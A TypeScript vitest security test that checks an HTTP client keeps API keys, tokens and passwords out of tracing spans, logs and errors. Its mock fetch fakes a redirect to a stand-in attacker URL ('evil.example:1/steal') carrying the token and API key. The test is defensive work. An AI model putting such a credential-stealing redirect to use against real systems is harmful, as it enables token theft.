import { inspect } from 'node:util';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { ALPHA, errorViews, GSTIN_QUERY, Harness, recordOutputs } from '../helpers.js';
import { OtelSdk } from '../observability/otel.js';
import { addSecret, observingFetch, secretsIn } from '../reliability/secrets.js';

/**
 * Attack: secrets the caller put in the URL query or a header, a token in a 3xx Location, foreign
 * errors quoting the token or the password: none may reach a span, a metric attribute, a channel
 * payload (every channel of every TracingChannel), a debug log line (pino-like and Nest-like
 * loggers) or the error the caller gets. Real HTTP against the mock.
 */

const API_KEY = 'attack-api-key-in-query-0123456789';
const CALLER_HEADER_SECRET = 'attack-caller-header-secret-98765';

describe('attack: no secret in any observability output or error', () => {
  const sdk = new OtelSdk();
  const h = new Harness();
  beforeAll(() => {
    sdk.register();
  });
  afterEach(() => h.close());
  afterAll(() => sdk.shutdown());

  it('query/header secrets, a token in a Location, foreign errors quoting token and password', async () => {
    addSecret(API_KEY);
    addSecret(CALLER_HEADER_SECRET);
    await h.start({ apiKeys: [{ key: API_KEY, username: ALPHA.username }] });
    const { payloads, lines, stop } = recordOutputs();
    const pino = {
      debug: (...a: unknown[]) => lines.push(a),
      info: (...a: unknown[]) => lines.push(a),
      warn: (...a: unknown[]) => lines.push(a),
      error: (...a: unknown[]) => lines.push(a),
      isLevelEnabled: () => true,
    };
    const nest = {
      log: (...a: unknown[]) => lines.push(a),
      debug: (...a: unknown[]) => lines.push(a),
      warn: (...a: unknown[]) => lines.push(a),
      error: (...a: unknown[]) => lines.push(a),
    };
    const errors: unknown[] = [];
    const keep = (e: unknown) => {
      errors.push(e);
    };
    let mode: 'plain' | 'redirect' | 'quote-token' | 'quote-password' = 'plain';
    const observed = observingFetch(globalThis.fetch);
    const attackFetch: typeof fetch = async (input, init) => {
      const request = input instanceof Request ? input : new Request(input, init);
      const auth = request.headers.get('authorization')?.replace(/^\S+\s+/, '') ?? '';
      const isLogin = request.url.includes('token-auth');
      if (mode === 'redirect' && !isLogin) {
        await observed(input, init).then((r) => r.body?.cancel());
        return new Response(null, {
          status: 302,
          headers: { location: `http://evil.example:1/steal?token=${auth}&api_key=${API_KEY}` },
        });
      }
      if (mode === 'quote-token' && !isLogin) {
        await observed(input, init).then((r) => r.body?.cancel());
        throw Object.assign(
          new Error(`socket hang up sending JWT-less ${auth} to ${request.url}`),
          {
            code: 'ECONNRESET',
          },
        );
      }
      if (mode === 'quote-password' && isLogin) {
        const body = await request.clone().text();
        await observed(input, init).then((r) => r.body?.cancel());
        const password = (JSON.parse(body) as { password: string }).password;
        throw Object.assign(new Error(`connect failed, body ${password}`), { code: password });
      }
      return observed(input, init);
    };
    try {
      for (const logger of [pino, nest]) {
        // API key in the caller's query string and a secret in a caller-set header.
        const keyed = h.client({ logger, credentials: { apiKey: API_KEY }, fetch: attackFetch });
        mode = 'plain';
        await keyed.mastersFetch.get(`${GSTIN_QUERY}&api_key=${API_KEY}`, {
          headers: { 'x-caller-secret': CALLER_HEADER_SECRET },
        });
        await keyed.mastersFetch.get(`api/v1/nope/?api_key=${API_KEY}`, { retry: 0 }).catch(keep);
        // Password mode: a token in a cross-origin Location; foreign errors quoting token/password.
        const client = h.client({ logger, fetch: attackFetch, timeoutMs: 2_000 });
        mode = 'plain';
        await client.mastersFetch.get(GSTIN_QUERY);
        mode = 'redirect';
        await client.mastersFetch.get(GSTIN_QUERY, { retry: 0 }).catch(keep);
        mode = 'quote-token';
        await client.mastersFetch.get(GSTIN_QUERY, { retry: 0 }).catch(keep);
        const other = h.client({ logger, fetch: attackFetch, clock: undefined });
        mode = 'quote-password';
        await other.mastersFetch.get(GSTIN_QUERY, { retry: 0 }).catch(keep);
        await other.getAccessToken().catch(keep);
      }
    } finally {
      stop();
    }
    expect(errors.length).toBeGreaterThanOrEqual(8);
    const spans = sdk.finished();
    const haystacks = [
      ...spans.map((s) =>
        inspect({ n: s.name, a: s.attributes, e: s.events, s: s.status }, { depth: 10 }),
      ),
      ...lines.map((a) => inspect(a, { depth: 10 })),
      ...payloads.map((p) => inspect(p, { depth: 10 })),
      ...errors.flatMap(errorViews),
    ];
    const leaks = haystacks.filter((t) => secretsIn(t).length > 0);
    expect(leaks).toEqual([]);
    // No query string anywhere a path is reported.
    const paths = [
      ...spans.map((s) => s.attributes['url.path']).filter((p) => p !== undefined),
      ...payloads.map((p) => (p as { path?: unknown }).path).filter((p) => p !== undefined),
    ];
    expect(paths.length).toBeGreaterThan(5);
    for (const path of paths) expect(String(path)).not.toContain('?');
    const debugText = lines.map((a) => inspect(a)).join('\n');
    expect(debugText).not.toContain('api_key=');
    expect(debugText).not.toContain('evil.example:1/steal');
  });

  it('a foreign error whose code IS the secret (api key, password of word characters)', async () => {
    const password = 'attack_word_password_0123';
    addSecret(API_KEY);
    addSecret(password);
    const user = { username: 'attack@example.com', password, gstins: [ALPHA.gstins[0]!] };
    await h.start({ users: [user], apiKeys: [{ key: API_KEY, username: user.username }] });
    const { payloads, lines, logger, stop } = recordOutputs();
    const errors: unknown[] = [];
    const observed = observingFetch(globalThis.fetch);
    const codeFetch =
      (secret: string): typeof fetch =>
      async (input, init) => {
        await observed(input, init).then((r) => r.body?.cancel());
        throw Object.assign(new Error('connection reset'), { code: secret });
      };
    sdk.spans.reset();
    try {
      const keyed = h.client({
        logger,
        credentials: { apiKey: API_KEY },
        fetch: codeFetch(API_KEY),
      });
      await keyed.mastersFetch.get(GSTIN_QUERY, { retry: 0 }).catch((e: unknown) => errors.push(e));
      const client = h.client({
        logger,
        credentials: { username: user.username, password },
        fetch: codeFetch(password),
      });
      await client.mastersFetch
        .get(GSTIN_QUERY, { retry: 0 })
        .catch((e: unknown) => errors.push(e));
    } finally {
      stop();
    }
    expect(errors).toHaveLength(2);
    const spans = sdk.finished();
    expect(spans.length).toBeGreaterThan(1);
    const haystacks = [
      ...spans.map((s) =>
        inspect({ n: s.name, a: s.attributes, e: s.events, s: s.status }, { depth: 10 }),
      ),
      ...lines.map((a) => inspect(a, { depth: 10 })),
      ...payloads.map((p) => inspect(p, { depth: 10 })),
      ...errors.flatMap(errorViews),
    ];
    expect(haystacks.filter((t) => secretsIn(t).length > 0)).toEqual([]);
  });
});
